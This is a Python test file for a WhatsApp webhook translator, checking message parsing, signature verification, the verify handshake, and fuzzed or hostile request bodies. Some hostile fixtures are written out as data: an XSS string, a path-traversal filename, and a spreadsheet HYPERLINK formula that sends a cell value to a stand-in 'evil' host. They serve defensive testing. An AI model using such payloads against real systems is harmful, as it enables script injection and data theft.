"""The WhatsApp translator against Meta's shapes, hostile bodies and an independent reader (pywa); no hub, no network."""

import asyncio
import copy
import hmac
import json
from collections.abc import Callable, Iterator
from hashlib import sha1, sha256
from pathlib import Path
from random import Random
from typing import Any

import httpx
import orjson
import phonenumbers
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pywa.client import WhatsApp as Pywa
from pywa.types.base_update import RawUpdate
from pywa.types.callback import CallbackButton
from pywa.types.message import Message
from pywa.types.message_status import MessageStatus

from backend.channels import simulate
from backend.channels.contract import (
    Broken,
    Channel,
    Delivery,
    IdentityMoved,
    Noticed,
    Reacted,
    Said,
    StateReported,
    Unit,
)
from backend.channels.whatsapp import whatsapp

Json = dict[str, Any]

SAMPLES = Path(__file__).parent.parent / "samples"
NOW = 1_795_170_000_000_000
ACCOUNT = "880077665544332"
PRIYA = (("wa_bsuid", "GB.70914425538120096"), ("wa_phone", "447700900142"))
SAM = (("wa_bsuid", "NG.5561208890017733"),)
TOO_LATE = (
    "Message failed to send because more than 24 hours have passed since the customer last replied to this number."
)
SECRET = b"app-secret-made-up-0123456789"


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def read(body: Any) -> Delivery:
    return whatsapp.read(body if isinstance(body, bytes) else orjson.dumps(body), NOW)


def units(body: Any) -> tuple[Unit, ...]:
    delivery = read(body)
    assert delivery.broken is None
    return tuple(unit for part in delivery.parts for unit in part.units)


def change(field: str = "messages", account: Any = ACCOUNT, **value: Any) -> Json:
    return {"field": field, "value": {"metadata": {"phone_number_id": account}} | value}


def delivery(*changes: Any) -> Json:
    return {"object": "whatsapp_business_account", "entry": [{"id": "1", "changes": list(changes)}]}


def message(kind: str = "text", number: int = 1, **members: Any) -> Json:
    head = {"from": "447700900142", "id": f"wamid.{number}", "timestamp": "1795168800", "type": kind}
    return head | ({"text": {"body": "hi"}} if kind == "text" else {}) | members


def one(item: Json, **value: Any) -> Any:
    (unit,) = units(delivery(change(messages=[item], **value)))
    return unit


# --- every sample of Meta's shapes


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("whatsapp/01_text.json", {"text": "Hello, is the evening data course still open? मुझे जानकारी चाहिए 🙂"}),
        ("whatsapp/02_text_bsuid_only.json", {"text": "price list please", "who": SAM, "name": "Sam", "phone": None}),
        ("whatsapp/04_text_forwarded.json", {"text": "Scholarship offer 50%!!"}),
        ("whatsapp/05_image.json", {"type": "image", "text": "my transcript"}),
        ("whatsapp/07_video.json", {"type": "video", "text": "campus tour question"}),
        ("whatsapp/08_document.json", {"type": "document", "text": "Document: CV – Priya (final).pdf"}),
        ("whatsapp/10_location.json", {"type": "location", "text": "Location: Branch office"}),
        ("whatsapp/15_interactive_button_reply.json", {"type": "interactive", "text": "Call me"}),
        ("whatsapp/18_order.json", {"type": "order", "text": "Order: 12 items, 46.00 GBP – deliver Friday"}),
        ("whatsapp/21_unsupported.json", {"type": "unsupported", "text": "Unsupported message: poll"}),
        ("whatsapp/22_referral_ctwa.json", {"text": "Hi! I saw your ad"}),
        (
            "hostile/02_document_traversal_name.json",
            {"type": "document", "text": r"Document: ..\..\..\static\evil.html"},
        ),
        ("hostile/30_flow_response_bad_json.json", {"type": "interactive", "text": "Form reply: Sent"}),
    ],
)
def test_a_message_becomes_what_was_said(name: str, expected: Json) -> None:
    (unit,) = units(sample(name))
    assert isinstance(unit, Said)
    assert unit.type == expected.get("type", "text")
    assert unit.text == expected["text"]
    assert unit.sender.identities == expected.get("who", PRIYA)
    assert unit.sender.name == expected.get("name", "Priya Raman")
    assert unit.sender.phone == expected.get("phone", "+447700900142")
    assert unit.provider_id.startswith("wamid.SFVC")
    assert unit.sent_at is not None
    assert abs(unit.sent_at - NOW) < 3_600_000_000
    assert not unit.outgoing


def test_what_the_line_cannot_show_is_kept_in_data() -> None:
    def of(name: str) -> Said:
        (unit,) = units(sample(name))
        assert isinstance(unit, Said)
        return unit

    assert of("whatsapp/01_text.json").sent_at == 1_795_168_807_000_000
    assert of("whatsapp/01_text.json").data == {
        "text": {"body": "Hello, is the evening data course still open? मुझे जानकारी चाहिए 🙂"}
    }
    assert of("whatsapp/02_text_bsuid_only.json").data["username"] == "sam.okafor"
    assert of("whatsapp/04_text_forwarded.json").data["frequently_forwarded"] is True
    assert of("whatsapp/05_image.json").data["image"]["id"] == "1840027700513390"
    assert of("whatsapp/08_document.json").data["document"]["filename"] == "CV – Priya (final).pdf"
    assert of("whatsapp/10_location.json").data["location"]["latitude"] == 51.5033
    reply = of("whatsapp/15_interactive_button_reply.json")
    assert reply.reply_to == "wamid.SFVCVEVTVC1vdXQtMDAwMw=="
    assert reply.data["interactive"]["button_reply"]["id"] == "callback:yes"
    prices = [line["item_price"] for line in of("whatsapp/18_order.json").data["order"]["product_items"]]
    assert prices == ["18.5", "0.9"]
    assert of("whatsapp/21_unsupported.json").data["errors"][0]["code"] == 131051
    assert (of("whatsapp/22_referral_ctwa.json").referral or {})["ctwa_clid"] == "ARAmadeupclid01"
    form = of("hostile/30_flow_response_bad_json.json")
    assert form.data["flow_error"] is True
    assert form.data["interactive"]["nfm_reply"]["response_json"] == "{not json"


@pytest.mark.parametrize(
    ("item", "text"),
    [
        (message("text", text={"body": "a\x00b\x1b[31m\r\nc\td\x9f"}), "ab[31m\nc\td"),
        (message("text", text={"body": " \x00 "}), "Empty message"),
        (message("text", text={"body": "x" * 20_000}), "x" * 8_000),
        (message("image", image={"id": "1"}), "Image"),
        (message("audio", audio={"id": "1"}), "Audio"),
        (message("audio", audio={"id": "1", "voice": True}), "Voice message"),
        (message("sticker", sticker={"id": "1", "animated": False}), "Sticker"),
        (message("document", document={"filename": "a\n\x00b.pdf", "caption": "see p. 2"}), "see p. 2"),
        (message("document", document={"filename": "a\n\x00b.pdf"}), "Document: a b.pdf"),
        (message("location", location={"latitude": 51.5, "longitude": -0.25}), "Location: 51.5, -0.25"),
        (message("location", location={"address": "10 Sample Street"}), "Location: 10 Sample Street"),
        (message("contacts", contacts=[{"name": {"formatted_name": "Ann Lee"}}]), "Contact card: Ann Lee"),
        (message("contacts", contacts=[{"name": {"formatted_name": "A"}}, {}, 7]), "Contact cards: A"),
        (message("interactive", interactive={"type": "list_reply", "list_reply": {"title": "Monday"}}), "Monday"),
        (message("interactive", interactive={"type": "product", "product": {}}), "Interactive reply: product"),
        (message("interactive", interactive={"type": "nfm_reply", "nfm_reply": {}}), "Form reply"),
        (message("interactive", errors=[{"code": 131051}]), "Unsupported message"),
        (message("button", button={"payload": "p", "text": "Tell me more"}), "Tell me more"),
        (message("button", button={"payload": "p"}), "Button: p"),
        (message("unsupported"), "Unsupported message"),
        (message("poll", poll={"name": "?"}), "Unknown message type: poll"),
        (message("<b>" + "p" * 60), f"Unknown message type: b{'p' * 31}"),
        (message("💣"), "Unknown message type: unnamed"),
    ],
)
def test_every_message_has_an_honest_line(item: Json, text: str) -> None:
    assert one(item).text == text


def test_an_unknown_type_is_kept_whole() -> None:
    item = message("poll", poll={"options": ["a", "b"]})
    unit = one(item)
    assert (unit.type, unit.data) == ("poll", item)
    assert one(message("💣")).type == "unknown"


def test_a_form_with_good_answers_is_opened() -> None:
    form = {"type": "nfm_reply", "nfm_reply": {"body": "Sent", "response_json": '{"email":"a@example.test"}'}}
    assert one(message("interactive", interactive=form)).data["flow"] == {"email": "a@example.test"}


@pytest.mark.parametrize(
    ("items", "text"),
    [
        ([(1, 4, "JPY")], "Order: 1 item, 4.00 JPY"),
        ([(3, 0.1, "GBP")], "Order: 3 items, 0.30 GBP"),
        ([(2, "1.255", "KWD")], "Order: 2 items, 2.510 KWD"),
        ([(1, 1, "GBP"), (1, 1, "EUR")], "Order: 2 items"),
        ([(1, "1e9999999", "GBP")], "Order: 1 item"),
        ([(1, "NaN", "GBP")], "Order: 1 item"),
        ([(1, 1e300, "GBP")], "Order: 1 item"),
        ([(-2, 1, "GBP"), (True, 1, "GBP"), (None, 1, "GBP")], "Order: 3 items"),
        ([], "Order: 0 items"),
    ],
)
def test_an_order_is_summed_exactly_or_not_at_all(items: list[tuple[Any, Any, str]], text: str) -> None:
    lines = [{"quantity": number, "item_price": price, "currency": money} for number, price, money in items]
    assert one(message("order", order={"catalog_id": "1", "product_items": lines})).text == text


# --- reactions, moves, states, notices, echoes


def test_reactions_are_put_on_and_taken_away() -> None:
    (put,) = units(sample("whatsapp/12_reaction.json"))
    (taken,) = units(sample("whatsapp/13_reaction_removed.json"))
    assert isinstance(put, Reacted)
    assert isinstance(taken, Reacted)
    assert (put.target, put.emoji, put.sender.identities) == ("wamid.SFVCVEVTVC1vdXQtMDAwMQ==", "👍", PRIYA)
    assert (taken.target, taken.emoji) == (put.target, None)
    assert one(message("reaction", reaction={"message_id": "wamid.9", "emoji": ""})).emoji is None
    assert isinstance(one(message("reaction", reaction={"message_id": "wamid.9", "emoji": 5})), Broken)
    assert isinstance(one(message("reaction", reaction={"emoji": "👍"})), Broken)


def test_a_new_user_id_is_a_move() -> None:
    old, new = ("wa_bsuid", "GB.70914425538120096"), ("wa_bsuid", "GB.81920033746511208")
    assert units(sample("whatsapp/20_system_changed_user_id.json")) == (
        IdentityMoved("wamid.SFVCVEVTVC1pbi1zeXMy", old, new),
    )


def test_a_new_number_moves_every_identity_it_changes() -> None:
    changed = {"type": "user_changed_number", "wa_id": "447700900999", "previous_user_id": "GB.1", "user_id": "GB.2"}
    found = units(delivery(change(messages=[message("system", system=changed)])))
    assert found == (
        IdentityMoved("wamid.1", ("wa_bsuid", "GB.1"), ("wa_bsuid", "GB.2")),
        IdentityMoved("wamid.1", ("wa_phone", "447700900142"), ("wa_phone", "447700900999")),
    )
    for same in ({}, {"wa_id": "447700900142"}):
        assert isinstance(one(message("system", system={"type": "user_changed_number"} | same)), Broken)
    other = one(message("system", system={"type": "customer_identity_changed"}))
    assert isinstance(other, Noticed)
    assert other.kind == "customer_identity_changed"


@pytest.mark.parametrize(
    ("name", "state", "reason"),
    [
        ("25_status_sent.json", "sent", None),
        ("27_status_read.json", "read", None),
        ("28_status_failed_131047.json", "failed", f"131047: {TOO_LATE}"),
        ("29_status_failed_131026.json", "failed", "131026: Message Undeliverable."),
        (
            "30_status_failed_131049.json",
            "failed",
            "131049: In order to maintain a healthy ecosystem engagement, the message failed to be delivered.",
        ),
        ("31_status_bsuid_only.json", "delivered", None),
    ],
)
def test_a_status_is_a_state(name: str, state: str, reason: str | None) -> None:
    (unit,) = units(sample(f"whatsapp/{name}"))
    assert isinstance(unit, StateReported)
    assert (unit.state, unit.reason) == (state, reason)
    assert unit.provider_id.startswith("wamid.SFVCVEVTVC1vdXQt")
    assert unit.at is not None


def test_a_status_keeps_price_conversation_and_recipient() -> None:
    (unit,) = units(sample("whatsapp/25_status_sent.json"))
    assert isinstance(unit, StateReported)
    assert unit.ours == "hub-msg-7f1c"
    assert unit.data["pricing"]["category"] == "utility"
    assert unit.data["conversation"]["id"] == "c0ffee00c0ffee00c0ffee00c0ffee00"
    assert unit.data["recipient_user_id"] == "GB.70914425538120096"


def test_statuses_come_as_sent_whatever_their_order() -> None:
    posts = sample("whatsapp/33_status_out_of_order.jsonl").splitlines()
    found = [unit for post in posts for unit in units(post)]
    assert [unit.state for unit in found if isinstance(unit, StateReported)] == ["read", "sent", "delivered", "read"]
    assert found[0] == found[3]


def test_account_errors_and_other_fields_are_notices_with_a_lasting_id() -> None:
    quality = change("phone_number_quality_update", event="FLAGGED")
    body = delivery(quality, change(errors=[{"code": 130429, "title": "Rate limit hit"}]))
    first, second = units(body)
    assert isinstance(first, Noticed)
    assert isinstance(second, Noticed)
    assert (first.kind, first.data["event"]) == ("phone_number_quality_update", "FLAGGED")
    assert (second.kind, second.data["code"]) == ("account_error", 130429)
    assert units(body) == (first, second)
    body["entry"][0]["time"] = 1_795_168_800
    assert [unit.provider_id != old.provider_id for unit, old in zip(units(body), (first, second), strict=True)] == [
        True,
        True,
    ]


def test_something_new_beside_messages_is_noticed() -> None:
    (unit,) = units(delivery(change(news=[{"a": 1}])))
    assert isinstance(unit, Noticed)
    assert unit.kind == "messages"
    assert read(delivery(change(messages=[], contacts=[]), change())) == Delivery()


def test_edits_and_revokes_never_speak() -> None:
    for kind in ("edit", "revoke"):
        unit = one(message(kind) | {kind: {"original_message_id": "wamid.0"}})
        assert isinstance(unit, Noticed)
        assert (unit.kind, unit.data[kind]["original_message_id"]) == (kind, "wamid.0")


@pytest.mark.parametrize("to", [{"to": "+447700900142"}, {"to": "447700900142"}, {"to_user_id": PRIYA[0][1]}])
def test_an_echo_is_ours_to_the_recipient(to: Json) -> None:
    echo = message("text", **to) | {"from": "442071838750"}
    contact = {"profile": {"name": "Priya"}, "wa_id": "447700900142", "user_id": PRIYA[0][1]}
    (unit,) = units(delivery(change("smb_message_echoes", message_echoes=[echo], contacts=[contact])))
    assert isinstance(unit, Said)
    assert unit.outgoing
    assert unit.sender.identities == PRIYA
    (stranger,) = units(delivery(change("smb_message_echoes", message_echoes=[echo])))
    assert isinstance(stranger, Said)
    assert set(stranger.sender.identities) < set(PRIYA)
    thumb = echo | {"type": "reaction", "reaction": {"message_id": "wamid.9", "emoji": "👍"}}
    (unit,) = units(delivery(change("smb_message_echoes", message_echoes=[thumb])))
    assert isinstance(unit, Noticed)


# --- who: by id, never by position


def contact(name: str, **ids: Any) -> Json:
    return {"profile": {"name": name}} | ids


@pytest.mark.parametrize(
    ("item", "contacts", "name"),
    [
        ({"from": "447700900142"}, [contact("B", wa_id="447700900999"), contact("A", wa_id="447700900142")], "A"),
        ({"from_user_id": "GB.1"}, [contact("B", user_id="GB.2"), contact("A", user_id="GB.1")], "A"),
        ({"from": "447700900142", "from_user_id": "GB.1"}, [contact("A", wa_id="525555", user_id="GB.1")], "A"),
        ({"from": "447700900142"}, [contact("B", wa_id="447700900999")], ""),
        ({"from": "447700900142", "from_user_id": "GB.1"}, [contact("B", wa_id="447700900142", user_id="GB.2")], ""),
        ({"from": "447700900142"}, [contact("A", user_id="GB.1")], "A"),
        ({"from": "447700900142"}, [contact("A")], "A"),
        ({"from": "447700900142"}, [contact("A"), contact("B")], ""),
        ({"from": "447700900142"}, [contact("A"), None], ""),
        ({"from": "447700900142"}, {"profile": "x"}, ""),
        ({"from": "447700900142"}, [contact("=A()\x00\n b" + "x" * 300, wa_id="447700900142")], "=A() b" + "x" * 194),
    ],
)
def test_a_contact_is_matched_by_id(item: Json, contacts: Any, name: str) -> None:
    unit = one({"from": None} | message() | {"from": None} | item, contacts=contacts)
    assert unit.sender.name == name


def test_identities_are_best_first_and_may_come_from_the_contact() -> None:
    known = contact("A", wa_id="447700900142", user_id="GB.1", parent_user_id="GB.ENT.7")
    item = message(from_user_id="GB.1") | {"from": None}
    expected = (("wa_bsuid", "GB.1"), ("wa_parent_bsuid", "GB.ENT.7"), ("wa_phone", "447700900142"))
    assert one(item, contacts=[known]).sender.identities == expected
    assert isinstance(one(message() | {"from": None}), Broken)


@pytest.mark.parametrize(
    ("number", "phone"),
    [("447700900142", "+447700900142"), ("12025550143", "+12025550143"), ("0000000", None), ("99999999999999", None)],
)
def test_a_phone_is_given_only_when_possible(number: str, phone: str | None) -> None:
    sender = one(message() | {"from": number}).sender
    assert (sender.identities, sender.phone) == ((("wa_phone", number),), phone)
    assert phone is None or phonenumbers.is_possible_number(phonenumbers.parse(phone))


# --- where: accounts


def test_parts_are_grouped_by_account_in_order() -> None:
    body = delivery(change(messages=[message(number=1)]), change(account="2", messages=[message(number=2)]))
    body["entry"].append({"id": "9", "changes": [change(messages=[message(number=3)])]})
    found = read(body)
    assert [(part.account, [unit.provider_id for unit in part.units]) for part in found.parts] == [
        (ACCOUNT, ["wamid.1", "wamid.3"]),
        ("2", ["wamid.2"]),
    ]
    assert found.unowned is None
    assert read(delivery(change(account=int(ACCOUNT), messages=[message()]))).parts[0].account == ACCOUNT


def test_the_same_wamid_belongs_to_its_own_account() -> None:
    (part,) = read(sample("hostile/08_cross_tenant_same_wamid.json")).parts
    assert part.account == "880077665544999"
    assert part.units[0].provider_id == "wamid.SFVCVEVTVC1pbi0wMDAx"


def test_what_names_no_account_is_told_and_loses_nothing_else() -> None:
    update = {"field": "message_template_status_update", "value": {"event": "APPROVED"}}
    junk = [{"field": "messages", "value": "x"}, 7, {}, {"field": "calls", "value": {}}, None, change(account=["1"])]
    found = read(delivery(update, change(messages=[message()]), *junk))
    assert [part.account for part in found.parts] == [ACCOUNT]
    assert found.unowned == "no phone_number_id in: message_template_status_update, messages"


# --- signatures and the handshake


def test_the_vectors_verify() -> None:
    vectors = json.loads(sample("signatures/vectors.json"))
    secret = vectors["meta_app_secret"].encode()
    assert vectors["vectors"]
    for vector in vectors["vectors"]:
        header = vector["headers"]["X-Hub-Signature-256"]
        assert whatsapp.verify(sample(vector["file"]), header, [secret]) == 0
        assert whatsapp.verify(sample(vector["file"]), header, [b"", b"other", secret, secret]) == 2


RAW = sample("whatsapp/01_text.json")
GOOD = simulate.sign(SECRET, RAW)


@pytest.mark.parametrize(
    ("raw", "signature"),
    [
        (RAW, None),
        (RAW, ""),
        (RAW, simulate.sign(b"wrong", RAW)),
        (RAW, GOOD[:-1]),
        (RAW, GOOD + "0"),
        (RAW, GOOD + "\n"),
        (RAW, GOOD.upper()),
        (RAW, "sha256=" + GOOD[7:].upper()),
        (RAW, GOOD[7:]),
        (RAW, f"sha1={hmac.new(SECRET, RAW, sha1).hexdigest()}"),
        (RAW, f"{GOOD}, {GOOD}"),
        (RAW, f" {GOOD}"),
        (RAW, "sha256=" + "é" * 64),
        (orjson.dumps(orjson.loads(RAW)), GOOD),
        (RAW[:-1] + bytes([RAW[-1] ^ 1]), GOOD),
        (RAW, simulate.sign(b"", RAW)),
    ],
)
def test_a_wrong_signature_is_refused(raw: bytes, signature: str | None) -> None:
    assert whatsapp.verify(raw, signature, [SECRET, b""]) is None


def test_no_secret_means_no_signature() -> None:
    assert whatsapp.verify(RAW, simulate.sign(b"", RAW), [b""]) is None
    assert whatsapp.verify(RAW, GOOD, []) is None
    assert whatsapp.verify(RAW, GOOD, [SECRET]) == 0


@pytest.mark.parametrize(
    ("changed", "answer"),
    [
        ({}, "1158201444"),
        ({"hub.verify_token": "hub-verify-tokem"}, None),
        ({"hub.verify_token": "hub-verify-tokén"}, None),
        ({"hub.mode": "unsubscribe"}, None),
        ({"hub.challenge": "<script>"}, None),
        ({"hub.challenge": "1\n"}, None),
        ({"hub.challenge": "٣"}, None),
        ({"hub.challenge": "1" * 65}, None),
        ({"hub.challenge": ""}, None),
    ],
)
def test_the_handshake_echoes_only_digits_for_the_right_token(changed: dict[str, str], answer: str | None) -> None:
    url = httpx.URL(json.loads(sample("whatsapp/51_verify_get.json"))["request"].removeprefix("GET "))
    assert whatsapp.handshake(dict(url.params) | changed, "hub-verify-token") == answer
    assert whatsapp.handshake(dict(url.params) | changed | {"hub.verify_token": ""}, "") is None
    assert whatsapp.handshake({}, "hub-verify-token") is None


# --- hostile bodies


@pytest.mark.parametrize(
    "name",
    ["10_nan_infinity.json", "13_huge_int.json", "14_not_json.txt", "15_invalid_utf8.bin", "04_wrong_types.json"],
)
def test_an_unreadable_body_is_broken_as_a_whole(name: str) -> None:
    found = read(sample(f"hostile/{name}"))
    assert found.broken
    assert found.parts == ()


@pytest.mark.parametrize(
    "raw", [b"", b"null", b"7", b"[]", b'"x"', b"{}", b"\xef\xbb\xbf{}", b"[" * 5_000, b'{"object":["x"]}']
)
def test_other_json_is_broken_too(raw: bytes) -> None:
    assert whatsapp.read(raw, NOW).broken


def test_duplicate_keys_have_one_meaning() -> None:
    assert read(sample("hostile/09_duplicate_keys.json")).broken
    last_wins = b'{"object":"page","object":"whatsapp_business_account","entry":7,"entry":[]}'
    assert read(last_wins) == Delivery()


def test_markup_and_formulas_stay_literal() -> None:
    (said,) = units(sample("hostile/01_whatsapp_xss_text.json"))
    assert isinstance(said, Said)
    assert said.text.startswith("<img src=x onerror=alert(1)><script>")
    assert said.sender.name == '"><svg onload=alert(2)>'
    (card,) = units(sample("hostile/03_contact_formula.json"))
    assert isinstance(card, Said)
    assert card.text == 'Contact card: =HYPERLINK("http://evil.example.test?x="&A1,"Click")'


def test_absurd_times_are_no_times() -> None:
    for post in sample("hostile/06_timestamp_extremes.jsonl").splitlines():
        (unit,) = units(post)
        assert isinstance(unit, Said)
        assert unit.sent_at is None


@pytest.mark.parametrize(
    ("value", "seconds"),
    [
        ("1230768000", 1_230_768_000),
        (1_795_168_800, 1_795_168_800),
        (str(NOW // 1_000_000 + 86_400), NOW // 1_000_000 + 86_400),
        (str(NOW // 1_000_000 + 86_401), None),
        ("1230767999", None),
        (1_795_168_800.0, None),
        (True, None),
        ("١٧٩٥١٦٨٨٠٠", None),
        ("9" * 5_000, None),
        (None, None),
    ],
)
def test_times_have_bounds(value: Any, seconds: int | None) -> None:
    assert one(message(timestamp=value)).sent_at == (None if seconds is None else seconds * 1_000_000)


@pytest.mark.parametrize("wrong", [None, 7, "", "x" * 513, "a b", "a\x00", ["wamid.1"], {}])
def test_a_unit_without_a_usable_id_is_broken(wrong: Any) -> None:
    for spoiled in (
        change(messages=[message() | {"id": wrong}]),
        change(statuses=[{"id": wrong, "status": "sent"}]),
    ):
        bad, good = units(delivery(spoiled, change(messages=[message()])))
        assert isinstance(bad, Broken)
        assert isinstance(good, Said)
    assert one(message(id="x" * 512)).provider_id == "x" * 512


def test_what_is_too_deep_to_store_is_broken_alone() -> None:
    deep: Any = 1
    for _ in range(200):
        deep = {"a": deep}
    items = [message(number=1, x=deep), message(number=2), message("poll", 3, poll=deep)]
    form = {"type": "nfm_reply", "nfm_reply": {"response_json": f'{{"a":{"[" * 900}{"]" * 900}}}'}}
    found = units(delivery(change(messages=[*items, message("interactive", 4, interactive=form)]), change("x", y=deep)))
    assert [type(unit) for unit in found] == [Broken, Said, Broken, Said, Broken]
    assert isinstance(found[3], Said)
    assert found[3].data["flow_error"] is True
    assert [unit.provider_id for unit in found[:4]] == ["wamid.1", "wamid.2", "wamid.3", "wamid.4"]


# --- an independent reader


def pywa_reads(raw: bytes, kind: type[Any]) -> Any:
    update = RawUpdate(raw, hmac_header=None, update_hash="")
    return kind.from_update(Pywa(phone_id=ACCOUNT, token="none", server=None), update)


@pytest.mark.parametrize("name", sorted(path.name for path in (SAMPLES / "whatsapp").glob("*.json")))
def test_pywa_agrees(name: str) -> None:
    raw = sample(f"whatsapp/{name}")
    found = units(raw) if b'"entry"' in raw else ()
    for unit in found:
        if isinstance(unit, Said) and unit.type not in ("interactive", "button"):
            theirs = pywa_reads(raw, Message)
            assert theirs.id == unit.provider_id
            assert (theirs.timestamp.timestamp() * 1_000_000, theirs.type.value) == (unit.sent_at, unit.type)
            who = [("wa_bsuid", theirs.from_user.bsuid), ("wa_phone", theirs.from_user.wa_id)]
            assert unit.sender.identities == tuple(pair for pair in who if pair[1])
            assert unit.sender.name == theirs.from_user.name
            assert unit.text == (theirs.text or theirs.caption or unit.text)
            assert theirs.forwarded_many_times == unit.data.get("frequently_forwarded", False)
        elif isinstance(unit, Said):
            theirs = pywa_reads(raw, CallbackButton)
            assert (theirs.title, theirs.reply_to_message.id) == (unit.text, unit.reply_to)
        elif isinstance(unit, Reacted):
            theirs = pywa_reads(raw, Message).reaction
            assert (theirs.message_id, theirs.emoji or None) == (unit.target, unit.emoji)
        elif isinstance(unit, StateReported):
            theirs = pywa_reads(raw, MessageStatus)
            assert (theirs.id, theirs.status.value, theirs.tracker) == (unit.provider_id, unit.state, unit.ours)
            code = str(theirs.error.code) if theirs.error else ""
            assert code == (unit.reason or "").split(":")[0]


# --- fuzz: any node may be anything

JUNK: tuple[Any, ...] = (None, True, 0, -1, 2**63, 1.5, "", "x", "\x00", "9" * 600, [], [None], {}, {"": 1}, [["x"]])
POSTS: list[Json] = [
    orjson.loads(line)
    for path in sorted(SAMPLES.glob("*/*.json*"))
    if path.name not in ("09_duplicate_keys.json", "10_nan_infinity.json", "13_huge_int.json", "vectors.json")
    for line in (path.read_bytes().splitlines() if path.suffix == ".jsonl" else [path.read_bytes()])
    if b'"entry"' in line
]
ITEMS = [
    item
    for post in POSTS
    if isinstance(post["entry"], list)
    for item in post["entry"][0]["changes"][0]["value"].get("messages", [])
]


def places(node: Any) -> Iterator[Callable[[Any, Any], None]]:
    """For each node below the top: a function that puts junk there in a copy of the whole."""

    def putter(path: tuple[Any, ...]) -> Callable[[Any, Any], None]:
        def put(root: Any, junk: Any) -> None:
            for key in path[:-1]:
                root = root[key]
            root[path[-1]] = junk

        return put

    def walk(inner: Any, path: tuple[Any, ...]) -> Iterator[Callable[[Any, Any], None]]:
        if path:
            yield putter(path)
        for key in inner if isinstance(inner, dict) else range(len(inner)) if isinstance(inner, list) else ():
            yield from walk(inner[key], (*path, key))

    return walk(node, ())


def believable(found: Delivery) -> None:
    """What every delivery promises, whatever came in; and that all of it can be written again."""
    for part in found.parts:
        assert part.account
        assert isinstance(part.account, str)
        for unit in part.units:
            orjson.dumps(unit)
            if isinstance(unit, Broken):
                assert unit.reason
                continue
            assert 0 < len(unit.provider_id) <= 512
            if isinstance(unit, Said):
                assert unit.sender.identities
                assert unit.text.strip()
                assert len(unit.text) <= 8_000
                assert len(unit.type) <= 32
                assert len(unit.sender.name) <= 200
                assert unit.sent_at is None or isinstance(unit.sent_at, int)


def test_junk_in_any_single_place_never_raises() -> None:
    for post in POSTS:
        for put in places(post):
            for junk in JUNK:
                body = copy.deepcopy(post)
                put(body, junk)
                believable(read(body))


SCALARS = (
    st.none() | st.booleans() | st.integers(-(2**63), 2**64 - 1) | st.floats(allow_nan=False) | st.text(max_size=9)
)
NODES = (
    SCALARS | st.lists(SCALARS, max_size=2) | st.dictionaries(st.sampled_from(["id", "type", ""]), SCALARS, max_size=2)
)


@settings(max_examples=100, deadline=None, database=None)
@given(post=st.sampled_from(POSTS), junk=st.lists(st.tuples(st.integers(0, 999), NODES), min_size=1, max_size=4))
def test_junk_in_many_places_never_raises(post: Json, junk: list[tuple[int, Any]]) -> None:
    body = copy.deepcopy(post)
    for number, node in junk:
        everywhere = list(places(body))
        everywhere[number % len(everywhere)](body, node)
    believable(read(body))


@settings(max_examples=150, deadline=None, database=None)
@given(raw=st.binary(max_size=200))
def test_any_bytes_never_raise(raw: bytes) -> None:
    assert whatsapp.read(raw, NOW).broken


def test_a_poisoned_unit_leaves_its_neighbours_whole() -> None:
    before, after = message(number=7_001), message(number=7_002, **{"from": "447700900999"})
    good = units(delivery(change(messages=[before, after])))
    for item in ITEMS:
        for put in places([item]):
            for junk in JUNK:
                poisoned = [copy.deepcopy(item)]
                put(poisoned, junk)
                found = units(delivery(change(messages=[before, *poisoned, after])))
                assert (found[0], found[-1]) == good


def test_a_poisoned_change_leaves_its_neighbours_whole() -> None:
    good = change(messages=[message()])
    for put in places([change(messages=[message(number=2)], contacts=[contact("A")])]):
        for junk in JUNK:
            poisoned = [change(messages=[message(number=2)], contacts=[contact("A")])]
            put(poisoned, junk)
            found = [part for part in read(delivery(good, *poisoned, good)).parts if part.account == ACCOUNT]
            said = [unit.provider_id for unit in found[0].units if isinstance(unit, Said)]
            assert (said[0], said[-1]) == ("wamid.1", "wamid.1")


# --- our own webhooks


def test_it_keeps_the_promise_of_a_channel() -> None:
    channel: Channel = whatsapp  # proved by the type checker; the name is used in tables and routes
    assert channel.name == "whatsapp"


def test_simulated_people_are_read_back() -> None:
    rng, kinds = Random(7), set()
    for _ in range(60):
        phone, name = simulate.person(rng)
        for content in simulate.story(rng):
            raw = simulate.message(ACCOUNT, phone, name, content, NOW, rng)
            assert raw.isascii()
            (unit,) = units(raw)
            assert isinstance(unit, Said)
            assert (unit.sender.name, unit.sender.phone, unit.sent_at) == (name, f"+{phone}", NOW)
            assert "Unknown" not in unit.text
            kinds.add(unit.type)
    assert kinds == {"text", "image", "document", "location", "interactive", "button"}
    (hidden,) = units(simulate.message(ACCOUNT, "447700900142", "Sam", content, NOW, rng, hidden=True))
    assert isinstance(hidden, Said)
    assert [kind for kind, _ in hidden.sender.identities] == ["wa_bsuid"]


def test_simulated_posts_are_signed_over_their_bytes_and_paced() -> None:
    bodies = [simulate.text_message(ACCOUNT, "447700900142", "Zoë", f"héllo {n}", NOW, Random(n)) for n in range(4)]

    def answer(request: httpx.Request) -> httpx.Response:
        if request.content == bodies[2]:
            raise httpx.ConnectError("nobody there")
        good = whatsapp.verify(request.content, request.headers["X-Hub-Signature-256"], [SECRET]) == 0
        return httpx.Response(200 if good else 401)

    statuses = asyncio.run(simulate.send("http://hub.test", SECRET, bodies, 200, httpx.MockTransport(answer)))
    assert statuses == [200, 200, 0, 200]
    assert simulate.sign(SECRET, bodies[0]) == f"sha256={hmac.new(SECRET, bodies[0], sha256).hexdigest()}"
